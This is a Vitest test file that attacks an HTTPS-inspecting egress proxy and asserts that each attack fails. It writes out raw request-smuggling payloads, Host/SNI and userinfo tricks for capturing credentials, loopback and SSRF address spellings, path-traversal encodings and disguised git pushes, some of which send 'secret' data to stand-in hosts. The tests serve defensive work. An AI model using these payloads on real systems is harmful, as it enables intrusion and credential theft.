// Attacks on the egress proxy that reads HTTPS, from inside the local sandbox (written by an outside attack pass, which
// found the header-count smuggling and the `;` path routes fixed since). Each it() asserts the safe outcome. The world
// they run in (stand-ins, CA, sandbox configuration, raw-request runner) is test/support/egress-read-world.ts.
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { egressReadWorld, type Case, type Seen } from '../support/egress-read-world.js';

const { cwd, TOKEN, arrivals, task, sh, run, tls, status, arrived, secretPort } = egressReadWorld('egress-attacks');
const urlHas = (frag: string): Seen[] => arrived((s) => s.url.includes(frag));
const host = (s: Seen): string => {
  const i = s.raw.findIndex((h, k) => k % 2 === 0 && h.toLowerCase() === 'host');
  return (s.raw[i + 1] ?? '').toLowerCase();
};

describe('method tricks to a host allowed for reading (registry.example.test)', () => {
  it('lowercase methods, WebDAV methods, HEAD/OPTIONS with a body, GET with a chunked body, CONNECT inside TLS: none arrives', async () => {
    const H = 'Host: registry.example.test\r\nConnection: close\r\n';
    const o = await run([
      tls('lower-put', 'registry.example.test:443', `put /m-lower HTTP/1.1\r\n${H}Content-Length: 1\r\n\r\nx`),
      tls('lower-get', 'registry.example.test:443', `get /m-lowerget HTTP/1.1\r\n${H}Content-Length: 1\r\n\r\nx`),
      tls('propfind', 'registry.example.test:443', `PROPFIND /m-propfind HTTP/1.1\r\n${H}\r\n`),
      tls('mkcol', 'registry.example.test:443', `MKCOL /m-mkcol HTTP/1.1\r\n${H}\r\n`),
      tls('move', 'registry.example.test:443', `MOVE /m-move HTTP/1.1\r\n${H}Destination: /x\r\n\r\n`),
      tls('lock', 'registry.example.test:443', `LOCK /m-lock HTTP/1.1\r\n${H}\r\n`),
      tls('delete', 'registry.example.test:443', `DELETE /m-delete HTTP/1.1\r\n${H}\r\n`),
      tls('patch', 'registry.example.test:443', `PATCH /m-patch HTTP/1.1\r\n${H}Content-Length: 0\r\n\r\n`),
      tls('head-body', 'registry.example.test:443', `HEAD /m-headbody HTTP/1.1\r\n${H}Content-Length: 6\r\n\r\nsecret`),
      tls(
        'options-body',
        'registry.example.test:443',
        `OPTIONS /m-optbody HTTP/1.1\r\n${H}Content-Length: 6\r\n\r\nsecret`,
      ),
      tls(
        'get-chunked',
        'registry.example.test:443',
        `GET /m-getchunked HTTP/1.1\r\n${H}Transfer-Encoding: chunked\r\n\r\n6\r\nsecret\r\n0\r\n\r\n`,
      ),
      tls(
        'connect-inside',
        'registry.example.test:443',
        `CONNECT secret.example.test:443 HTTP/1.1\r\nHost: secret.example.test:443\r\n\r\n`,
      ),
      tls('options-star', 'registry.example.test:443', `OPTIONS * HTTP/1.1\r\n${H}\r\n`),
      tls(
        'http10-body',
        'registry.example.test:443',
        `GET /m-http10 HTTP/1.0\r\nHost: registry.example.test\r\nContent-Length: 6\r\n\r\nsecret`,
      ),
      tls('http09', 'registry.example.test:443', `GET /m-http09\r\n`),
    ]);
    for (const name of [
      'lower-put',
      'lower-get',
      'propfind',
      'mkcol',
      'move',
      'lock',
      'delete',
      'patch',
      'head-body',
      'options-body',
      'get-chunked',
      'connect-inside',
      'http10-body',
      'http09',
    ])
      expect(status(o[name]), `${name}: ${JSON.stringify(o[name])}`).toMatch(/HTTP\/1\.[01] (4\d\d)|^$|EOF|reset/i);
    expect(arrived((s) => s.url.startsWith('/m-')).map((s) => `${s.method} ${s.url} ${s.body}`)).toEqual([]);
    expect(arrived((s) => s.where === 'secret')).toEqual([]);
  });

  it('a GET asking to be read as DELETE or PUT (method-override headers) is a write: it never arrives', async () => {
    const o = await run([
      tls(
        'override',
        'registry.example.test:443',
        'GET /m2-override HTTP/1.1\r\nHost: registry.example.test\r\nX-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: PUT\r\nConnection: close\r\n\r\n',
      ),
    ]);
    expect(status(o.override)).toMatch(/^HTTP\/1\.1 403/);
    expect(urlHas('/m2-override')).toEqual([]);
  });
});

describe('request smuggling inside the TLS the proxy reads', () => {
  it('pipelined writes behind reads, TE obfuscation, duplicate Content-Length, chunk tricks, bare LF: no write arrives', async () => {
    const R = 'Host: registry.example.test\r\n';
    const put = (p: string): string => `PUT ${p} HTTP/1.1\r\n${R}Content-Length: 6\r\nConnection: close\r\n\r\nsecret`;
    const o = await run([
      tls('pipeline', 'registry.example.test:443', `GET /s-read HTTP/1.1\r\n${R}\r\n${put('/s-pipelined')}`),
      tls(
        'pipeline-cl0',
        'registry.example.test:443',
        `GET /s-read2 HTTP/1.1\r\n${R}Content-Length: 0\r\n\r\n${put('/s-pipelined2')}`,
      ),
      tls(
        'dup-cl',
        'registry.example.test:443',
        `GET /s-dupcl HTTP/1.1\r\n${R}Content-Length: 0\r\nContent-Length: 40\r\n\r\n${put('/s-dupcl-smuggled')}`,
      ),
      tls(
        'te-list',
        'registry.example.test:443',
        `GET /s-telist HTTP/1.1\r\n${R}Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n${put('/s-telist-smuggled')}`,
      ),
      tls(
        'te-two',
        'registry.example.test:443',
        `GET /s-tetwo HTTP/1.1\r\n${R}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${put('/s-tetwo-smuggled')}`,
      ),
      tls(
        'te-space',
        'registry.example.test:443',
        `GET /s-tespace HTTP/1.1\r\n${R}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${put('/s-tespace-smuggled')}`,
      ),
      tls(
        'te-x',
        'registry.example.test:443',
        `GET /s-tex HTTP/1.1\r\n${R}Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${put('/s-tex-smuggled')}`,
      ),
      tls(
        'te-fold',
        'registry.example.test:443',
        `GET /s-tefold HTTP/1.1\r\n${R}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${put('/s-tefold-smuggled')}`,
      ),
      tls(
        'te-tab',
        'registry.example.test:443',
        `GET /s-tetab HTTP/1.1\r\n${R}Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n${put('/s-tetab-smuggled')}`,
      ),
      tls(
        'chunk-ext',
        'registry.example.test:443',
        `GET /s-chext HTTP/1.1\r\n${R}Transfer-Encoding: chunked\r\n\r\n0;x=\"a\r\n\r\n${put('/s-chext-smuggled')}`,
      ),
      tls(
        'chunk-0x',
        'registry.example.test:443',
        `GET /s-ch0x HTTP/1.1\r\n${R}Transfer-Encoding: chunked\r\n\r\n0x6\r\nsecret\r\n0\r\n\r\n`,
      ),
      tls(
        'chunk-overflow',
        'registry.example.test:443',
        `GET /s-chov HTTP/1.1\r\n${R}Transfer-Encoding: chunked\r\n\r\n10000000000000006\r\nsecret\r\n0\r\n\r\n`,
      ),
      tls(
        'bare-lf',
        'registry.example.test:443',
        `GET /s-lf HTTP/1.1\n${R.replace('\r', '')}Content-Length: 6\n\nsecret`,
      ),
      tls('cl-plus', 'registry.example.test:443', `GET /s-clplus HTTP/1.1\r\n${R}Content-Length: +6\r\n\r\nsecret`),
      tls(
        'trailer',
        'registry.example.test:443',
        `GET /s-trailer HTTP/1.1\r\n${R}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\nX-Exfil: secret\r\n\r\n`,
      ),
    ]);
    expect(status(o.pipeline)).toMatch(/^HTTP\/1\.1 200/);
    expect(o.pipeline?.reply).toMatch(/HTTP\/1\.1 403/);
    expect(
      arrived(
        (s) => /smuggled|pipelined|s-ch0x|s-chov|s-lf|s-clplus/.test(s.url) || (s.url.startsWith('/s-') && s.body > 0),
      ).map((s) => `${s.method} ${s.url} ${s.body}`),
    ).toEqual([]);
  });
});

describe("headers past Node's maxHeadersCount (2000)", () => {
  const filler = Array.from({ length: 2000 }, (_, i) => `a${i}: b\r\n`).join('');
  const R = 'Host: registry.example.test\r\n';
  const smuggledPut = (p: string): string =>
    `PUT ${p} HTTP/1.1\r\n${R}Content-Length: 6\r\nConnection: close\r\n\r\nsecret`;
  const hiddenArrivals = (prefix: string): string[] =>
    arrived((s) => s.url.startsWith(prefix) && (s.method !== 'GET' || s.body > 0)).map(
      (s) => `${s.method} ${s.url} body=${s.body}`,
    );

  it('a Content-Length hidden behind 2000 headers: the body (a PUT) must not reach a host allowed for reading', async () => {
    const smuggled = smuggledPut('/h1-smuggled');
    const o = await run([
      tls(
        'hidden-cl',
        'registry.example.test:443',
        `GET /h1-get HTTP/1.1\r\n${R}${filler}Content-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
      ),
    ]);
    writeFileSync(join(cwd, 'hidden-cl.json'), JSON.stringify(o, null, 1));
    expect(hiddenArrivals('/h1-')).toEqual([]);
  });

  it('Transfer-Encoding: chunked hidden behind 2000 headers: the body (a PUT) must not reach a host allowed for reading', async () => {
    const smuggled = smuggledPut('/h2-smuggled');
    const o = await run([
      tls(
        'hidden-te',
        'registry.example.test:443',
        `GET /h2-get HTTP/1.1\r\n${R}${filler}Transfer-Encoding: chunked\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`,
      ),
    ]);
    writeFileSync(join(cwd, 'hidden-te.json'), JSON.stringify(o, null, 1));
    expect(hiddenArrivals('/h2-')).toEqual([]);
  });

  it('the same over plain HTTP — the proxy sends the GET upstream with Connection: close, so the unframed body that follows is never read as a request', async () => {
    const P = 'Host: plain-lenient.example.test\r\n';
    const smuggled = `POST /h5-smuggled HTTP/1.1\r\n${P}Content-Length: 6\r\nConnection: close\r\n\r\nsecret`;
    const o = await run([
      {
        name: 'plain-hidden-cl',
        kind: 'raw',
        send: `GET http://plain-lenient.example.test/h5-get HTTP/1.1\r\n${P}${filler}Content-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
      },
    ]);
    writeFileSync(join(cwd, 'hidden-plain.json'), JSON.stringify(o, null, 1));
    writeFileSync(
      join(cwd, 'hidden-plain-arrivals.json'),
      JSON.stringify(
        arrived((s) => s.url.includes('h5')).map((s) => ({
          ...s,
          raw: [s.raw.length, ...s.raw.slice(0, 4), ...s.raw.slice(-6)],
        })),
        null,
        1,
      ),
    );
    expect(hiddenArrivals('/h5-')).toEqual([]);
  });

  it('an Upgrade or a second Host hidden behind 2000 headers reaches nothing', async () => {
    const o = await run([
      tls(
        'hidden-upgrade',
        'registry.example.test:443',
        `GET /h3-up HTTP/1.1\r\n${R}${filler}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n${smuggledPut('/h3-smuggled')}`,
      ),
      tls(
        'hidden-host',
        'registry.example.test:443',
        `GET /h3-host HTTP/1.1\r\nX-A: b\r\n${filler}Host: other.example.test\r\nConnection: close\r\n\r\n`,
      ),
    ]);
    writeFileSync(join(cwd, 'hidden-up.json'), JSON.stringify(o, null, 1));
    expect(hiddenArrivals('/h3-')).toEqual([]);
    expect(arrived((s) => s.url.startsWith('/h3-') && host(s) !== 'registry.example.test')).toEqual([]);
  });

  it("on a credential host allowed for reading (a lenient upstream, like nginx): the hidden body's PUT arrives; the next request's credential is not captured", async () => {
    // lenient.example.test: allowed for reading, the proxy adds the credential; its server takes many headers (as
    // nginx does). The hidden body is the start of a PUT whose Content-Length swallows the next request the proxy
    // sends on that kept-alive upstream connection: the command's own next GET, to which the proxy adds the credential.
    const C = 'Host: lenient.example.test\r\n';
    const victim = `GET /h4-victim HTTP/1.1\r\n${C}Connection: close\r\n\r\n`;
    const prefix = `PUT /h4-capture HTTP/1.1\r\n${C}Content-Length: 200\r\n\r\n`;
    const o = await run([
      tls(
        'capture',
        'lenient.example.test:443',
        `GET /h4-get HTTP/1.1\r\n${C}${filler}Content-Length: ${prefix.length}\r\n\r\n${prefix}${victim}`,
        { seconds: 4 },
      ),
    ]);
    writeFileSync(join(cwd, 'hidden-capture.json'), JSON.stringify(o, null, 1));
    writeFileSync(
      join(cwd, 'hidden-capture-arrivals.json'),
      JSON.stringify(
        arrived((s) => s.url.startsWith('/h4')).map((s) => ({
          ...s,
          raw: [s.raw.length, ...s.raw.slice(0, 4), ...s.raw.slice(-6)],
        })),
        null,
        1,
      ),
    );
    // SAFE part: the broker's credential was not captured into the smuggled PUT's body (Node's client closes an
    // upstream connection whose request went out unframed, so the next request takes a new one)...
    expect(arrived((s) => s.text.includes(TOKEN)).map((s) => `${s.method} ${s.url}`)).toEqual([]);
    expect(JSON.stringify(o)).not.toContain(TOKEN);
    // The smuggled PUT, a write the policy never allowed, reached the credential's host.
    expect(arrived((s) => s.url.startsWith('/h4-capture')).map((s) => `${s.method} ${s.url}`)).toEqual([]);
  });
});

describe('Host / SNI / CONNECT target mismatches and credentials', () => {
  it('duplicate Host headers, Host vs CONNECT Host, absolute-URI userinfo, trailing dots: the credential reaches only its host', async () => {
    const o = await run([
      tls(
        'dup-host',
        'api.example.test:443',
        'GET /x-duphost HTTP/1.1\r\nHost: api.example.test\r\nHost: other.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'dup-host-rev',
        'other.example.test:443',
        'GET /x-duphost2 HTTP/1.1\r\nHost: other.example.test\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'connect-host-hdr',
        'registry.example.test:443',
        'GET /x-connecthost HTTP/1.1\r\nHost: registry.example.test\r\nConnection: close\r\n\r\n',
        {
          connectHeaders: 'Host: api.example.test:443\r\n',
        },
      ),
      tls(
        'userinfo',
        'api.example.test:443',
        'GET https://api.example.test@secret.example.test/x-userinfo HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'userinfo2',
        'api.example.test:443',
        'GET https://secret.example.test@api.example.test/x-userinfo2 HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'backslash-abs',
        'api.example.test:443',
        'GET https://api.example.test\\@secret.example.test/x-backslash HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'host-dot',
        'api.example.test:443',
        'GET /x-hostdot HTTP/1.1\r\nHost: api.example.test.\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'host-case',
        'api.example.test:443',
        'GET /x-hostcase HTTP/1.1\r\nHost: API.Example.Test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'xfh',
        'api.example.test:443',
        'GET /x-xfh HTTP/1.1\r\nHost: api.example.test\r\nX-Forwarded-Host: secret.example.test\r\nForwarded: host=secret.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'absolute-other-port',
        'api.example.test:443',
        'GET https://api.example.test:8443/x-port HTTP/1.1\r\nHost: api.example.test:8443\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'sni-dot',
        'api.example.test:443',
        'GET /x-snidot HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
        { sni: 'api.example.test.', nocheck: true },
      ),
      tls(
        'no-sni',
        'registry.example.test:443',
        'GET /x-nosni HTTP/1.1\r\nHost: registry.example.test\r\nConnection: close\r\n\r\n',
        { sni: null, nocheck: true },
      ),
      tls(
        'sni-ip',
        'registry.example.test:443',
        'GET /x-sniip HTTP/1.1\r\nHost: registry.example.test\r\nConnection: close\r\n\r\n',
        { sni: '127.0.0.1', nocheck: true },
      ),
      tls(
        'connect-dot',
        'api.example.test.:443',
        'GET /x-connectdot HTTP/1.1\r\nHost: api.example.test.\r\nConnection: close\r\n\r\n',
        { sni: 'api.example.test', nocheck: true },
      ),
    ]);
    writeFileSync(join(cwd, 'host-results.json'), JSON.stringify(o, null, 1));
    // The credential only ever arrived on a connection to its host, with its own name in Host.
    const withToken = arrivals.filter((s) => s.raw.some((v) => v.includes(TOKEN)));
    for (const s of withToken) {
      expect([s.servername, host(s).replace(/:443$/, '').replace(/\.$/, '')], `${s.url}`).toEqual(
        expect.arrayContaining([s.servername]),
      );
      expect(['api.example.test', 'credread.example.test', 'lenient.example.test'], `${s.url} servername`).toContain(
        s.servername,
      );
      // Every Host header the request carried names the credential's host.
      const hosts = s.raw.filter((_, k) => k % 2 === 1 && s.raw[k - 1]!.toLowerCase() === 'host');
      for (const h of hosts) expect(h.toLowerCase().replace(/\.?(:443)?$/, ''), `${s.url} Host`).toBe(s.servername);
    }
    expect(arrived((s) => s.where === 'secret')).toEqual([]);
    // No Host header naming another host than the connection's arrived anywhere.
    expect(
      arrived(
        (s) =>
          s.url.startsWith('/x-') &&
          s.raw.some(
            (v, k) =>
              k % 2 === 1 && s.raw[k - 1]!.toLowerCase() === 'host' && !v.toLowerCase().startsWith(s.servername ?? '?'),
          ),
      ).map((s) => `${s.url} sni=${s.servername} hosts=${JSON.stringify(s.raw)}`),
    ).toEqual([]);
  });

  it('the credential is never sent in the clear: plain HTTP inside a CONNECT to :443, TLS inside a CONNECT to :80', async () => {
    // plaincred.example.test: allowed whole, with a credential (443 only); egress.resolve maps it to a plain-HTTP
    // stand-in, so whatever the proxy sends there in the clear is seen.
    const o = await run([
      {
        name: 'plain-in-443',
        kind: 'raw',
        send: 'CONNECT plaincred.example.test:443 HTTP/1.1\r\nHost: plaincred.example.test:443\r\n\r\nGET /k-plain443 HTTP/1.1\r\nHost: plaincred.example.test\r\nConnection: close\r\n\r\n',
      },
      {
        name: 'plain-in-443-hostport',
        kind: 'raw',
        send: 'CONNECT plaincred.example.test:443 HTTP/1.1\r\nHost: plaincred.example.test:443\r\n\r\nGET /k-plain443b HTTP/1.1\r\nHost: plaincred.example.test:443\r\nConnection: close\r\n\r\n',
      },
      {
        name: 'abs-http-443',
        kind: 'raw',
        send: 'GET http://plaincred.example.test:443/k-abs443 HTTP/1.1\r\nHost: plaincred.example.test:443\r\nConnection: close\r\n\r\n',
      },
      {
        name: 'socks-plain-443',
        kind: 'socks',
        request: `05010003${(22).toString(16)}${Buffer.from('plaincred.example.test').toString('hex')}01bb`,
        send: 'GET /k-socks443 HTTP/1.1\r\nHost: plaincred.example.test\r\nConnection: close\r\n\r\n',
      },
      tls(
        'tls-in-80',
        'plaincred.example.test:80',
        'GET /k-tls80 HTTP/1.1\r\nHost: plaincred.example.test\r\nConnection: close\r\n\r\n',
        { nocheck: true },
      ),
    ]);
    writeFileSync(join(cwd, 'cleartext.json'), JSON.stringify(o, null, 1));
    expect(
      arrived((s) => s.url.startsWith('/k-') && s.raw.some((v) => v.includes(TOKEN))).map(
        (s) => `${s.where} ${s.method} ${s.url}`,
      ),
    ).toEqual([]);
  });

  it('TLS session resumption across hosts, ALPN h2 only, TLS 1.2: no request reaches another host', async () => {
    const o = await run([
      tls(
        'api-first',
        'api.example.test:443',
        'GET /r-first HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
        { session_out: 'api', tls12: true } as Partial<Case>,
      ),
      tls(
        'resume-on-registry',
        'registry.example.test:443',
        'GET /r-resumed HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
        { sni: 'api.example.test', session_in: 'api', tls12: true } as Partial<Case>,
      ),
      tls('h2-only', 'registry.example.test:443', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', { alpn: ['h2'] }),
    ]);
    expect(o['h2-only']?.alpn ?? null).not.toBe('h2');
    expect(urlHas('/r-resumed').map((s) => `${s.servername} ${host(s)} ${JSON.stringify(s.raw)}`)).toEqual([]);
  });

  it('a credential host allowed for reading: GET gets the credential, writes do not arrive', async () => {
    const o = await run([
      tls(
        'cred-get',
        'credread.example.test:443',
        'GET /c-get HTTP/1.1\r\nHost: credread.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'cred-put',
        'credread.example.test:443',
        'PUT /c-put HTTP/1.1\r\nHost: credread.example.test\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx',
      ),
      tls(
        'cred-trace',
        'credread.example.test:443',
        'TRACE /c-trace HTTP/1.1\r\nHost: credread.example.test\r\nConnection: close\r\n\r\n',
      ),
      tls(
        'cred-track',
        'api.example.test:443',
        'TRACK /c-track HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n',
      ),
    ]);
    expect(status(o['cred-get'])).toMatch(/200/);
    expect(urlHas('/c-put')).toEqual([]);
    expect(urlHas('/c-trace')).toEqual([]);
    expect(JSON.stringify(o)).not.toContain(TOKEN);
  });
});

describe('CONNECT / SOCKS / absolute-URI targets: this machine, deny, unknown hosts', () => {
  it('loopback spellings, deny by case / trailing dot, unknown hosts hidden in userinfo: never connected', async () => {
    const sp = secretPort();
    const abs = (name: string, url: string, hostHdr: string): Case => ({
      name,
      kind: 'raw',
      send: `GET ${url} HTTP/1.1\r\nHost: ${hostHdr}\r\nConnection: close\r\n\r\n`,
    });
    const conn = (name: string, target: string): Case => ({
      name,
      kind: 'raw',
      send: `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\nGET /t-${name} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      seconds: 2,
    });
    const socks = (name: string, request: string): Case => ({
      name,
      kind: 'socks',
      request,
      send: `GET /t-${name} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      seconds: 2,
    });
    const port2 = (n: number): string => n.toString(16).padStart(4, '0');
    const dom = (d: string, port: number): string =>
      `05010003${d.length.toString(16).padStart(2, '0')}${Buffer.from(d, 'latin1').toString('hex')}${port2(port)}`;
    const o = await run([
      abs('abs-loop', `http://127.0.0.1:${sp}/t-abs-loop`, `127.0.0.1:${sp}`),
      abs('abs-localhost', `http://localhost:${sp}/t-abs-localhost`, 'localhost'),
      abs('abs-localhost-dot', `http://localhost.:${sp}/t-abs-localhostdot`, 'localhost.'),
      abs('abs-sub-localhost', `http://a.localhost:${sp}/t-abs-sublocal`, 'a.localhost'),
      abs('abs-127-1', `http://127.1:${sp}/t-abs-1271`, '127.1'),
      abs('abs-dec', `http://2130706433:${sp}/t-abs-dec`, '2130706433'),
      abs('abs-zero', `http://0.0.0.0:${sp}/t-abs-zero`, '0.0.0.0'),
      abs('abs-v6', `http://[::ffff:127.0.0.1]:${sp}/t-abs-v6`, '[::ffff:127.0.0.1]'),
      abs('abs-v6-nat64', `http://[64:ff9b::7f00:1]:${sp}/t-abs-nat64`, '[64:ff9b::7f00:1]'),
      abs('abs-v4compat', `http://[::127.0.0.1]:${sp}/t-abs-v4compat`, '[::127.0.0.1]'),
      abs(
        'abs-userinfo',
        'http://plain-read.example.test@secret.example.test/t-abs-userinfo',
        'plain-read.example.test',
      ),
      abs(
        'abs-backslash',
        'http://secret.example.test\\@plain-read.example.test/t-abs-backslash',
        'plain-read.example.test',
      ),
      abs('abs-hash', 'http://secret.example.test#@plain-read.example.test/t-abs-hash', 'plain-read.example.test'),
      abs('abs-host-mismatch', 'http://plain-read.example.test/t-abs-hostmismatch', 'secret.example.test'),
      abs('abs-tab', 'http://secret.example.test\t.plain-read.example.test/t-abs-tab', 'plain-read.example.test'),
      {
        name: 'origin-form',
        kind: 'raw',
        send: 'GET /t-origin HTTP/1.1\r\nHost: secret.example.test\r\nConnection: close\r\n\r\n',
      },
      {
        name: 'abs-pipeline',
        kind: 'raw',
        send: 'GET http://plain-read.example.test/t-pipe1 HTTP/1.1\r\nHost: plain-read.example.test\r\n\r\nGET http://secret.example.test/t-pipe2 HTTP/1.1\r\nHost: secret.example.test\r\nConnection: close\r\n\r\n',
      },
      {
        name: 'abs-pipeline-write',
        kind: 'raw',
        send: 'GET http://plain-read.example.test/t-pipe3 HTTP/1.1\r\nHost: plain-read.example.test\r\n\r\nPOST http://plain-read.example.test/t-pipe4 HTTP/1.1\r\nHost: plain-read.example.test\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret',
      },
      { name: 'h2-prior', kind: 'raw', send: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00' },
      {
        name: 'h2c-upgrade',
        kind: 'raw',
        send: 'GET http://plain-read.example.test/t-h2c HTTP/1.1\r\nHost: plain-read.example.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n',
      },
      conn('c-loop', `127.0.0.1:${sp}`),
      conn('c-v6', `[::ffff:7f00:1]:${sp}`),
      conn('c-localhost-dot', `localhost.:${sp}`),
      conn('c-zero', `0:${sp}`),
      conn('c-denied', 'denied.wild.test:443'),
      conn('c-denied-case', 'DENIED.WILD.TEST:443'),
      conn('c-denied-dot', 'denied.wild.test.:443'),
      conn('c-denied-fullwidth', '\xef\xbd\x84enied.wild.test:443'),
      conn('c-denied-enc', 'denied.wild.test%2e:443'),
      conn('c-denied-ip6-name', 'denied.wild.test..:443'),
      conn('c-secret', 'secret.example.test:443'),
      conn('c-secret-at', 'registry.example.test@secret.example.test:443'),
      conn('c-secret-port', 'secret.example.test:443:80'),
      conn('c-noport', 'secret.example.test'),
      socks('s-ip4', `05010001${'7f000001'}${port2(sp)}`),
      socks('s-ip6', `05010004${'00000000000000000000ffff7f000001'}${port2(sp)}`),
      socks('s-localhost', dom('localhost', sp)),
      socks('s-secret', dom('secret.example.test', 443)),
      socks('s-nul', dom('registry.example.test\x00.secret.example.test', 443)),
      socks('s-denied-dot', dom('denied.wild.test.', 443)),
      socks('s-denied-case', dom('Denied.Wild.Test', 443)),
      {
        name: 'socks4',
        kind: 'raw',
        send: `\x04\x01${String.fromCharCode(sp >> 8, sp & 255)}\x7f\x00\x00\x01\x00GET /t-socks4 HTTP/1.1\r\nHost: x\r\n\r\n`,
      },
    ]);
    writeFileSync(join(cwd, 'target-results.json'), JSON.stringify(o, null, 1));
    expect(arrived((s) => s.where === 'secret').map((s) => `${s.method} ${s.url} ${host(s)}`)).toEqual([]);
    expect(arrived((s) => host(s).startsWith('denied') || s.servername?.startsWith('denied') === true)).toEqual([]);
    expect(urlHas('/t-pipe4')).toEqual([]);
    expect(
      arrived((s) => s.url.startsWith('/t-') && host(s) !== 'plain-read.example.test').map(
        (s) => `${s.where} ${s.url} ${host(s)}`,
      ),
    ).toEqual([]);
  });
});

describe('path tricks on a path-limited entry (paths.example.test: write /ok/, read /anywhere)', () => {
  const put = (name: string, path: string): Case =>
    tls(
      name,
      'paths.example.test:443',
      `PUT ${path} HTTP/1.1\r\nHost: paths.example.test\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret`,
    );
  const get = (name: string, path: string): Case =>
    tls(
      name,
      'paths.example.test:443',
      `GET ${path} HTTP/1.1\r\nHost: paths.example.test\r\nConnection: close\r\n\r\n`,
    );
  const got = (re: RegExp): string[] => arrived((s) => re.test(s.url)).map((s) => `${s.method} ${s.url}`);

  it('the documented forms (%2E%2E, .%2e, backslash raw and encoded, .;, absolute-form ..) are not under /ok/', async () => {
    await run([
      put('upper-hex', '/ok/%2E%2E/p1-admin'),
      put('half-encoded', '/ok/.%2e/p1-admin'),
      put('backslash-raw', '/ok\\..\\p1-admin'),
      put('backslash-enc', '/ok%5c..%5cp1-admin'),
      put('dot-semicolon', '/ok/.;/../p1-admin'),
      put('abs-dotdot', 'https://paths.example.test/ok/../p1-admin'),
      get('read-prefix', '/anywhereelse/p1-read'),
      get('read-case', '/ANYWHERE/p1-read'),
    ]);
    expect(got(/p1-/)).toEqual([]);
  });

  it('"..;" (Tomcat, Jetty, Spring: a ".." segment with a path parameter) is not under /ok/ nor under /anywhere', async () => {
    const o = await run([
      put('dotdot-semicolon', '/ok/..;/p2-admin'),
      put('dotdot-semicolon-param', '/ok/..;jsessionid=1/p2-admin'),
      get('read-dotdot-semicolon', '/anywhere/..;/p2-read'),
    ]);
    writeFileSync(join(cwd, 'path-semicolon.json'), JSON.stringify(o, null, 1));
    expect(got(/p2-/)).toEqual([]);
  });

  it('other spellings some servers decode to ".." (NUL, double-encoded, overlong UTF-8, %u, fullwidth) are not under /ok/', async () => {
    const o = await run([
      put('dotdot-nul', '/ok/..%00/p3-admin'),
      put('double-encoded', '/ok/%252e%252e/p3-admin'),
      put('overlong-utf8', '/ok/%c0%ae%c0%ae/p3-admin'),
      put('u-encoding', '/ok/%u002e%u002e/p3-admin'),
      put('fullwidth-dots', '/ok/%ef%bc%8e%ef%bc%8e/p3-admin'),
    ]);
    writeFileSync(join(cwd, 'path-exotic.json'), JSON.stringify(o, null, 1));
    expect(got(/p3-/)).toEqual([]);
  });
});

describe('git push disguised as fetch, and uploads through git-upload-pack (forge.example.test: read)', () => {
  const post = (name: string, path: string, body: string, type = 'application/x-git-upload-pack-request'): Case =>
    tls(
      name,
      'forge.example.test:443',
      `POST ${path} HTTP/1.1\r\nHost: forge.example.test\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
    );
  const secretBody = 'password=hunter2&'.repeat(2000);
  const posts = (re: RegExp): string[] =>
    arrived((s) => s.method === 'POST' && re.test(s.url)).map((s) => `${s.method} ${s.url} ${s.body} bytes`);

  it("receive-pack with upload-pack's type, the suffix after ? or #, in capitals: none arrives", async () => {
    await run([
      post('receive-with-upload-type', '/repo.git/git-receive-pack', '0000'),
      post('query-suffix', '/g1/deploy?x=/git-upload-pack', secretBody),
      post('fragment-suffix', '/g1/deploy#/git-upload-pack', secretBody),
      post('case-suffix', '/g1/deploy/GIT-UPLOAD-PACK', secretBody),
    ]);
    expect(posts(/git-receive-pack|\/g1\//)).toEqual([]);
  });

  it('a write to /api/deploy dressed as a fetch with a path parameter (";/git-upload-pack", Tomcat/Spring/Jetty route it to /api/deploy)', async () => {
    const o = await run([post('semicolon-suffix', '/g2/api/deploy;/git-upload-pack', secretBody)]);
    writeFileSync(join(cwd, 'git-semicolon.json'), JSON.stringify(o, null, 1));
    expect(posts(/\/g2\//)).toEqual([]);
  });

